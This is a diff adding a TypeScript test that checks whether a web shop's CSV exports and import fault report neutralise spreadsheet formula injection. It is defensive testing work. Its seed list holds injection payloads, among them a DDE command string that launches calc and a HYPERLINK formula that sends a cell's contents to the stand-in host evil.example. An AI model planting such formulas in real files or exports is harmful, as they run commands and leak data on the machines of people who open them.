@@ -1,0 +1,85 @@
+import { parse } from 'csv-parse/sync'
+import type { Case, Ground, Report } from './case.ts'
+import { newProduct, newReview } from './things.ts'
+
+const formulas: readonly string[] = [
+  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+  "=cmd|'/C calc'!A0",
+  '+1+cmd|x!A0',
+  '-2+3+cmd|x!A0',
+  '@SUM(1+1)*cmd|x!A0',
+  '＝1+1',
+  '＠SUM(1)',
+  '="a",=1+1',
+  '=1\n=2',
+]
+
+const exports_: readonly string[] = [
+  '/orders/export.csv',
+  '/desk/orders/export.csv',
+  '/desk/products/export.csv',
+  '/desk/users/export.csv',
+  '/desk/audit/export.csv',
+]
+
+/** Every text that an export shows, as a formula. */
+async function fillWithFormulas(ground: Ground): Promise<void> {
+  const { ask, admin } = ground
+  for (const formula of formulas) {
+    const person = await ground.newCaller(formula)
+    const product = await newProduct(ground, {
+      name: `${formula} ${crypto.randomUUID()}`,
+      sku: `=${crypto.randomUUID()}`,
+    })
+    const texts = { address: formula, phone: formula.slice(0, 50), others: formula }
+    const order = await ask('/api/order', {
+      as: person,
+      body: { productId: product._id, newOrderQty: 1, ...texts },
+    })
+    const { _id } = order.json<{ _id: string }>()
+    await ask(`/api/order/${_id}/notes`, { as: admin, body: { text: formula, isInternal: true } })
+    await newReview(ground, person, { reviewText: formula })
+    const email = `case-${crypto.randomUUID()}@test.example`
+    await ask('/api/users/invitations', { as: admin, body: { email, name: formula, role: 'customer' } })
+  }
+}
+
+/** What a spreadsheet would run. A number with its sign is none. */
+function isRun(cell: string): boolean {
+  return /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
+}
+
+function judgeTable(name: string, text: string, { expect }: Report): void {
+  expect(text.includes('cmd|') || text.includes('HYPERLINK'), `${name} holds no formula: nothing is proved`)
+  const rows: string[][] = parse(text, { bom: true })
+  for (const cell of rows.flat()) expect(!isRun(cell), `${name} has the cell ${JSON.stringify(cell.slice(0, 60))}`)
+}
+
+async function exportNoFormula(ground: Ground, report: Report): Promise<void> {
+  const { ask, admin } = ground
+  await fillWithFormulas(ground)
+  for (const path of exports_) {
+    const answer = await ask(`/api${path}`, { as: admin })
+    report.expect(answer.status === 200, `${path} answers ${answer.status}`)
+    report.expect(answer.headers.get('content-disposition')?.startsWith('attachment') ?? false, `${path} is shown`)
+    judgeTable(path, answer.text, report)
+  }
+  const cells = formulas.map((formula) => `"${formula.replaceAll('"', '""')}"`)
+  const table = `sku,name,unitprice\n${cells.map((cell) => `${cell},${cell},${cell}`).join('\n')}\n`
+  const headers = { 'content-type': 'text/csv' }
+  const added = await ask('/api/imports?name=formulas.csv', { method: 'POST', as: admin, body: table, headers })
+  const { _id } = added.json<{ _id: string }>()
+  const mapping = { sku: 0, name: 1, unitprice: 2, description: 1, image: 1, minorder: 2, available: 2 }
+  await ask(`/api/imports/${_id}/check`, { as: admin, body: { mapping } })
+  let state = 'checking'
+  for (let tries = 0; state !== 'checked' && tries < 100; tries++) {
+    state = (await ask(`/api/imports/${_id}`, { as: admin })).json<{ state: string }>().state
+    if (state !== 'checked') await new Promise((resolve) => setTimeout(resolve, 100))
+  }
+  const faults = await ask(`/api/imports/${_id}/faults.csv`, { as: admin })
+  judgeTable('/imports/{id}/faults.csv', faults.text, report)
+}
+
+export const formulaCases: readonly Case[] = [
+  { name: 'formulas in every export', requirement: 'V1.2', run: exportNoFormula },
+]
